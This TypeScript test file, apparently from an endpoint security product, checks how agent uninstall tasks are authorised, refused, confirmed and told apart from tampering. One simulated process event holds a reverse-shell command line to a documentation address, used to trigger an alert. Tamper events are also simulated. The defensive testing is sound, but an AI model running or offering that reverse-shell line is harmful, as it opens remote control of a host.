/** The removal of agents as a task: who may ask, what is refused, whose word counts, what the server gives up, and what raises no alert. */
import assert from 'node:assert/strict'
import { cpSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import type { TaskMessage } from '@rampart/api'
import { shippedModels } from '@rampart/models'
import { until } from '../testing/real-agent.ts'
import { enrolAgent, post, TestAgent } from '../testing/test-agent.ts'
import { TestConsole } from '../testing/test-console.ts'
import { startTestServer, temporaryDirectory } from '../testing/test-server.ts'

async function setUp(t: TestContext, options: Parameters<typeof startTestServer>[0] = {}) {
  const running = await startTestServer(options)
  t.after(() => running.end())
  const { server } = running
  const console = new TestConsole(server.consoleUrl)
  await console.begin(server.firstUser ?? { name: '', password: '' })

  /** An agent that says that it runs from a package, or from a checkout. */
  async function agentOf(name: string, isPackaged = true): Promise<TestAgent> {
    const agent = new TestAgent(
      await enrolAgent(server.createEnrolmentToken().token, `machine-${name}`, name),
      's',
      name,
    )
    await agent.connect(false)
    agent.send({
      type: 'hello',
      protocol: 1,
      agentVersion: '0.1.0',
      bootId: 'boot-1',
      spoolId: 's',
      host: {
        name,
        addresses: ['192.0.2.10'],
        operatingSystem: 'Debian 12',
        kernel: '6.1',
        ...(isPackaged && { packageArchitecture: 'x64' as const }),
      },
    })
    await agent.until(() => agent.received.some(({ type }) => type === 'welcome'))
    t.after(() => agent.cut())
    return agent
  }
  const idOf = (agent: TestAgent) => agent.enrolment.assetId
  const ask = (agent: TestAgent, over: Record<string, unknown> = {}) =>
    console.call('respondOnAsset', { id: idOf(agent), body: { name: 'uninstall agent', ...over } })
  const tasksOf = (agent: TestAgent, kind: string) =>
    agent.received.filter((one): one is TaskMessage => one.type === 'task' && one.kind === kind)
  async function taskOf(agent: TestAgent, kind = 'uninstall-agent'): Promise<TaskMessage> {
    await agent.until(() => tasksOf(agent, kind).length > 0)
    return tasksOf(agent, kind).at(-1) as TaskMessage
  }
  const tell = (agent: TestAgent, task: string, state: 'done' | 'failed' = 'done') => {
    const { certificate, key, server } = agent.enrolment
    const url = server.replace('wss:', 'https:').replace('/agent', '/uninstall')
    const message = state === 'done' ? 'It is gone.' : 'dpkg could not remove the package.'
    return post(url, { task, state, code: `uninstall.${state}`, message }, { cert: certificate, key })
  }
  const assetOf = async (agent: TestAgent) => (await console.call('getAsset', { id: idOf(agent) })).body
  const titles = async () => (await console.call('listAlerts')).body.items.map((one: { title: string }) => one.title)
  return { running, console, agentOf, idOf, ask, taskOf, tell, assetOf, titles }
}

test('asked once, told by its own agent alone; then the asset is called uninstalled and nothing of it is accepted', async (t) => {
  const { running, console, agentOf, idOf, ask, taskOf, tell, assetOf } = await setUp(t)
  const agent = await agentOf('web-1')
  const other = await agentOf('web-2')
  const isolated = await console.call('respondOnAsset', { id: idOf(agent), body: { name: 'isolate host' } })
  agent.send({
    type: 'task-result',
    id: (await taskOf(agent, 'isolate-host')).id,
    state: 'done',
    code: 'host.isolated',
    message: '',
    at: 1,
  })
  await until('the isolation', async () => (await assetOf(agent)).isolated !== null)
  assert.equal(isolated.status, 200)
  const waiting = await console.call('respondOnAsset', { id: idOf(agent), body: { name: 'troubleshoot' } })

  const begun = await ask(agent, { note: 'Moved away.' })
  assert.equal(begun.status, 200)
  const again = await ask(agent)
  assert.deepEqual([again.status, again.body.code], [409, 'response.not-offered'])
  const { id } = await taskOf(agent)
  assert.equal((await tell(other, id)).status, 403, 'the word of another agent counts for nothing')
  assert.equal((await tell(agent, 'tk-made-up')).status, 403)
  assert.equal(
    (await tell(agent, (await taskOf(agent, 'troubleshoot')).id)).status,
    403,
    'no other task is ended this way',
  )
  assert.equal((await assetOf(agent)).agent.state, 'online')

  assert.equal((await tell(agent, id)).status, 200)
  const { agent: state, isolated: isolation, certificate, responses } = await assetOf(agent)
  assert.deepEqual([state.state, isolation, certificate.revokedFor], ['uninstalled', null, 'uninstalled by admin'])
  assert.ok(responses.every((one: { offered: boolean }) => !one.offered))
  const ended = async (operation: string) => (await console.call('getOperation', { id: operation })).body.state
  assert.deepEqual([await ended(begun.body.id), await ended(waiting.body.id)], ['done', 'cancelled'])
  assert.equal((await tell(agent, id)).status, 401, 'its certificate is taken back')
  await assert.rejects(agent.connect())
  assert.equal((await assetOf(other)).agent.state, 'online')
  assert.match((await ask(agent)).body.message, /uninstalled already/)
  const facets = (await console.call('listAssets', { query: 'state=uninstalled' })).body
  assert.deepEqual([facets.total, facets.facets.state], [1, { uninstalled: 1, online: 1 }])
  const audit = (await console.call('listAudit', { query: `subject=${idOf(agent)}` })).body.items
  const actions = audit.map(({ action }: { action: string }) => action)
  assert.ok(actions.includes('agent.uninstalled') && actions.includes('agent.uninstall-refused'), `${actions}`)

  await running.restart()
  const later = new TestConsole(running.server.consoleUrl)
  await later.signIn('admin', 'a new and long password')
  assert.equal((await later.call('getAsset', { id: idOf(agent) })).body.agent.state, 'uninstalled')
})

test('refused: for others than administrators, from a checkout, with files in quarantine unless agreed', async (t) => {
  const { running, console, agentOf, idOf, ask, taskOf, tell } = await setUp(t)
  const checkout = await agentOf('lab', false)
  assert.match((await ask(checkout)).body.message, /runs from a checkout/)
  const none = await console.call('respondOnAsset', { id: 'host-unknown', body: { name: 'uninstall agent' } })
  assert.equal(none.status, 404)

  const added = await console.call('createUser', { body: { name: 'rita', role: 'responder', groups: null } })
  const rita = new TestConsole(running.server.consoleUrl)
  await rita.begin({ name: 'rita', password: added.body.password })
  const agent = await agentOf('web-1')
  const body = { name: 'uninstall agent' }
  assert.equal((await rita.call('respondOnAsset', { id: idOf(agent), body })).status, 403)

  await agent.deliver(1, [agent.started(1, 'bash -i >& /dev/tcp/192.0.2.7/443', 4242, '/srv/shop/kworker')])
  let alert: { id: string; version: number } | undefined
  await until('an alert', async () => {
    alert = (await console.call('listAlerts')).body.items[0]
    return alert !== undefined
  })
  const quarantined = await console.call('respondToAlert', {
    id: alert?.id,
    body: { name: 'quarantine', version: alert?.version },
  })
  assert.equal(quarantined.status, 200, JSON.stringify(quarantined.body))
  const { id, parameters } = await taskOf(agent, 'quarantine-file')
  const details = { entry: (parameters as { entry: string }).entry, sizeBytes: 1 }
  agent.send({ type: 'task-result', id, state: 'done', code: 'file.quarantined', message: '', at: 1, details })
  const files = async () =>
    (await console.call('listQuarantine')).body.items.map(({ state }: { state: string }) => state)
  await until('the file', async () => (await files())[0] === 'quarantined')
  const held = await ask(agent)
  assert.deepEqual([held.status, held.body.code], [409, 'uninstall.quarantine'])
  assert.match(held.body.message, /1 file is in quarantine/)
  assert.equal((await ask(agent, { destroyQuarantined: true })).status, 200)
  assert.equal((await tell(agent, (await taskOf(agent)).id)).status, 200)
  assert.deepEqual(await files(), ['deleted'])
})

test('an agent that leaves is not missed; one that was to leave and stays is', async (t) => {
  const { agentOf, ask, taskOf, tell, assetOf, titles } = await setUp(t, { silentAfterMs: 1_500 })
  const leaving = await agentOf('web-1')
  const failing = await agentOf('web-2')
  const missed = await agentOf('web-3')
  for (const one of [leaving, failing]) assert.equal((await ask(one)).status, 200)
  const task = await taskOf(leaving)
  for (const one of [leaving, failing, missed]) {
    if (one !== missed) one.send({ type: 'stopping', reason: 'SIGTERM' })
    // What was sent is read first.
    await until('the last word', async () => (await assetOf(one)) !== null)
    one.cut()
  }
  await until('the silence of the third', async () => (await assetOf(missed)).agent.state === 'silent')
  assert.equal((await assetOf(leaving)).agent.state, 'offline')
  assert.deepEqual(await titles(), ['Agent silent'], 'only the third is missed')
  assert.equal((await tell(leaving, task.id)).status, 200)
  assert.equal((await tell(failing, (await taskOf(failing)).id, 'failed')).status, 200)
  await until('the silence of the second', async () => (await assetOf(failing)).agent.state === 'silent')
  assert.equal((await assetOf(leaving)).agent.state, 'uninstalled')
  assert.equal((await assetOf(failing)).certificate.revokedAt, null)
})

test('what a removal does to its agent raises nothing when the server ordered it, and alerts when it did not', async (t) => {
  const modelsDirectory = temporaryDirectory()
  t.after(() => rmSync(modelsDirectory, { recursive: true, force: true }))
  for (const model of [
    'other/agent-tampered',
    'suspicious-process/security-service-stopped',
    'persistence/systemd-unit-written',
  ])
    cpSync(join(shippedModels, model, 'rule.yml'), join(modelsDirectory, model, 'rule.yml'))
  const { agentOf, ask, taskOf, tell, titles, idOf, console } = await setUp(t, { modelsDirectory })
  const leaving = await agentOf('web-1')
  const other = await agentOf('web-2')
  assert.equal((await ask(leaving)).status, 200)
  const { id } = await taskOf(leaving)
  const stopped = (agent: TestAgent, sequence: number, task: string) => {
    const event = agent.started(sequence, 'systemctl disable --now --quiet rampart-agent', 4242, '/usr/bin/systemctl')
    const home = '/opt/rampart-agent/versions/0.1.0'
    const remover = {
      pid: 4000,
      entityId: 'boot-1-4000-1',
      executable: `${home}/runtime/node`,
      name: 'node',
      commandLine: `${home}/runtime/node --disable-warning=ExperimentalWarning ${home}/app/apps/agent/src/uninstall/remover.ts /var/lib/rampart/agent ${task}`,
    }
    const process = { ...(event.process as Record<string, unknown>), parent: remover, ancestors: [remover] }
    return { ...event, process }
  }
  const unit = (agent: TestAgent, sequence: number) =>
    agent.event(sequence, 'file.written', {
      user: { id: 0, name: 'root' },
      process: { pid: 4100, entityId: 'boot-1-4100-1', executable: '/usr/bin/cp', name: 'cp', commandLine: 'cp' },
      file: { path: '/run/systemd/system/rampart-agent-removal.service', name: 'rampart-agent-removal.service' },
    })
  const takenApart = (agent: TestAgent) =>
    agent.health({
      sensors: [
        {
          sensor: 'agent.integrity',
          state: 'failed',
          reason: '/opt/rampart-agent/supervise.sh was removed',
          eventsSeen: 0,
          eventsLost: 0,
          lostByCause: {},
          capabilities: {},
        },
      ],
    })
  const titlesOf = async (agent: TestAgent) =>
    (await console.call('listAlerts', { query: `asset=${idOf(agent)}` })).body.items
      .map((one: { title: string }) => one.title)
      .sort()

  takenApart(leaving)
  await leaving.deliver(1, [stopped(leaving, 1, id), unit(leaving, 2)])
  assert.deepEqual(await titles(), [])
  // The id of another's task, and one that nobody gave.
  await other.deliver(1, [stopped(other, 1, id), unit(other, 2)])
  const told = [
    'Security or logging service stopped',
    'Service, timer or other unit of systemd written by an unusual program',
  ]
  assert.deepEqual(await titlesOf(other), told)
  takenApart(other)
  await until('the agent taken apart', async () => (await titlesOf(other)).includes('Agent taken apart'))
  assert.deepEqual(await titlesOf(leaving), [])

  await leaving.deliver(2, [stopped(leaving, 3, 'tk-made-up')])
  assert.deepEqual(await titlesOf(leaving), [told[0]], 'nobody gave that id')
  await leaving.deliver(3, [{ ...stopped(leaving, 4, id), user: { id: 1000, name: 'mallory' } }])
  assert.deepEqual(await titlesOf(leaving), [told[0], told[0]], 'others than root may read the id, but remove nothing')
  assert.equal((await tell(leaving, id, 'failed')).status, 200)
  await leaving.deliver(4, [{ ...stopped(leaving, 5, id), at: Date.now() + 1000 }, unit(leaving, 6)])
  assert.deepEqual(await titlesOf(leaving), [told[0], ...told], 'the id of a removal that has ended')
  takenApart(leaving)
  await until('the agent taken apart', async () => (await titlesOf(leaving)).includes('Agent taken apart'))
})
